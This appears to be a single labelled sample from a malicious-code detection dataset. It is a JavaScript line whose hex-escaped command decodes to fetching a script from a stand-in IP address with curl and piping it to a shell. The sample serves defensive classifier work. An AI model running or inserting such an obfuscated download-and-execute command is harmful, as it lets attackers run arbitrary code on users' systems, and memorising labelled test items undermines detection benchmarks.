// label: malicious; obfuscated: hex
require("child_process").exec("\x63\x75\x72\x6c http://203.0.113.9/x | \x73\x68");
